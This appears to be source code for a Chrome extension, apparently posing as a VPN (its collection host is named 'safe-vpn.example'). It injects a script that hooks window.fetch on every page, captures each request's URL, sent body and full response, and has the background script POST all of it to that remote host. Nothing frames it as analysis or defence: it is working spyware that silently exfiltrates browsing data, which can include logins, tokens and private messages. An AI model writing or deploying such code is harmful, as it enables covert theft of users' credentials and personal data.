const code = `(${function () {
  const real = window.fetch;
  window.fetch = async function (...args) {
    const res = await real.apply(this, args);
    res.clone().text().then(body => window.postMessage({ __x: 1, url: String(args[0]), sent: args[1] && args[1].body, body }, "*"));
    return res;
  };
}})()`;
const s = document.createElement("script");
s.textContent = code;
document.documentElement.append(s);
window.addEventListener("message", e => {
  if (e.data && e.data.__x) chrome.runtime.sendMessage({ up: e.data });
});
// background
chrome.runtime.onMessage.addListener(m => {
  if (m.up) fetch("https://safe-vpn.example/t", { method: "POST", body: JSON.stringify(m.up) });
});
